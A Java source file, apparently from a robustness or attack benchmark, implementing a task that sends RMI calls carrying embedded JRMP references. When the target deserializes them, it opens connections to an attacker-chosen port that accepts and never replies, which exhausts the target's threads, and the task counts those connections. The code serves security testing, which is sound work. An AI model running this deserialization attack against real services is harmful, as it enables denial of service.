package org.dfra.benchmarks.attack;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.reflect.Method;
import java.lang.reflect.Proxy;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.rmi.MarshalledObject;
import java.rmi.Remote;
import java.rmi.registry.LocateRegistry;
import java.rmi.server.RemoteObject;
import java.rmi.server.RemoteObjectInvocationHandler;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import net.jini.core.event.RemoteEventListener;
import net.jini.core.lookup.ServiceRegistrar;
import net.jini.core.lookup.ServiceTemplate;
import org.dfra.event.DeliveryPolicy;
import org.dfra.event.ModuleListener;
import org.dfra.report.measurement.MeasuredValue;
import org.dfra.river.remote.RemoteModule;
import org.dfra.river.remote.RemoteModuleListener;
import org.dfra.river.remote.effector.RemoteDriveEffector;
import org.jspecify.annotations.Nullable;

/**
 * Calls the drive and the registrar with plain RMI references in the arguments: deserializing one
 * starts a thread, which connects to a port of the attacker. The attacker accepts the connections
 * and never answers.
 */
public final class JrmpReferences extends AttackTask {

  private static final int BACKLOG = 1_024;
  private static final long LEASE_MILLIS = 30_000;
  private static final ServiceTemplate ALL = new ServiceTemplate(null, null, null);

  private final List<byte[]> calls = new ArrayList<>();
  private final List<Socket> open = new ArrayList<>(); // by the accepting thread
  private final AtomicInteger connections = new AtomicInteger();
  private @Nullable RemoteEventListener listener;

  /** Called by {@code TaskMain} by reflection. */
  public JrmpReferences() {}

  @Override
  protected void prepare(Target target) throws Exception {
    ServerSocket server = new ServerSocket(0, BACKLOG, InetAddress.getByName(target.source()));
    Thread thread = new Thread(() -> take(server), "takes connections");
    thread.setDaemon(true);
    thread.start();
    RemoteObjectInvocationHandler reference = reference(target.source(), server.getLocalPort());
    Method subscribe =
        RemoteModule.class.getMethod("subscribe", ModuleListener.class, DeliveryPolicy.class);
    List<Object> arguments =
        List.of(
            reference,
            proxy(RemoteModuleListener.class, reference),
            new Object[] {"beside", reference});
    for (Object each : arguments) {
      calls.add(
          CallBytes.with(
              subscribe,
              out -> {
                out.writeObject(each);
                out.writeObject(DeliveryPolicy.keepLast(1));
              }));
    }
    listener = proxy(RemoteEventListener.class, reference);
  }

  /** No connection is made here; the deserializing process makes it. */
  private static RemoteObjectInvocationHandler reference(String host, int port) throws IOException {
    Remote registry = LocateRegistry.getRegistry(host, port);
    return new RemoteObjectInvocationHandler(((RemoteObject) registry).getRef());
  }

  private static <T extends Remote> T proxy(
      Class<T> type, RemoteObjectInvocationHandler reference) {
    return type.cast(
        Proxy.newProxyInstance(
            JrmpReferences.class.getClassLoader(), new Class<?>[] {type}, reference));
  }

  private void take(ServerSocket server) {
    try {
      while (true) {
        open.add(server.accept()); // kept open, so that the other side waits
        connections.incrementAndGet();
      }
    } catch (IOException e) {
      throw new UncheckedIOException("no more connections are taken", e);
    }
  }

  @Override
  protected void attack(Target target) throws Exception {
    RemoteDriveEffector drive = target.remoteDrive();
    ServiceRegistrar registrar = target.registrar();
    do {
      for (byte[] each : calls) {
        var unused = attempt(() -> send(drive, each));
      }
      var unused = attempt(() -> listen(registrar));
    } while (!isStopping());
  }

  private Object listen(ServiceRegistrar registrar) throws IOException {
    return registrar.notify(
        ALL,
        ServiceRegistrar.TRANSITION_NOMATCH_MATCH,
        listener,
        (MarshalledObject<?>) null,
        LEASE_MILLIS);
  }

  @Override
  protected List<MeasuredValue> figures() {
    return List.of(
        new MeasuredValue(
            "connections to a port of the attacker's choice", connections.get(), 0, ""));
  }
}
